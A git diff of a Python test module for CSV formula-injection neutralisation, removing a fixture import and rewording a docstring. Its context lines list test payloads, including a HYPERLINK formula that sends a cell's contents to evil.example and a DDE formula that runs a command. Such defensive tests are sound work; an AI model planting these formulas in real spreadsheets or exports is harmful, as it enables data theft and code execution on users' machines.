@@ -14,7 +14,6 @@ import requests
 from apiclient import TIMEOUT, v1
 from conftest import reset, running_stack
 from core.csv_cells import neutralised, restored
-from test_cli import cli, config_file, token, users  # noqa: F401 - fixtures
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)",
             "+79991234567", "-2+3", "\tTAB", "\rCR"]
@@ -32,7 +31,7 @@ def shipped_services(tmp_path_factory):
 
 @pytest.fixture
 def stack(shipped_services):
-    """The module's stack at the shipped settings, emptied (test_cli's fixtures use it)."""
+    """The module's stack at the shipped settings, emptied (the CLI fixtures use it)."""
     reset(shipped_services)
     return shipped_services
 
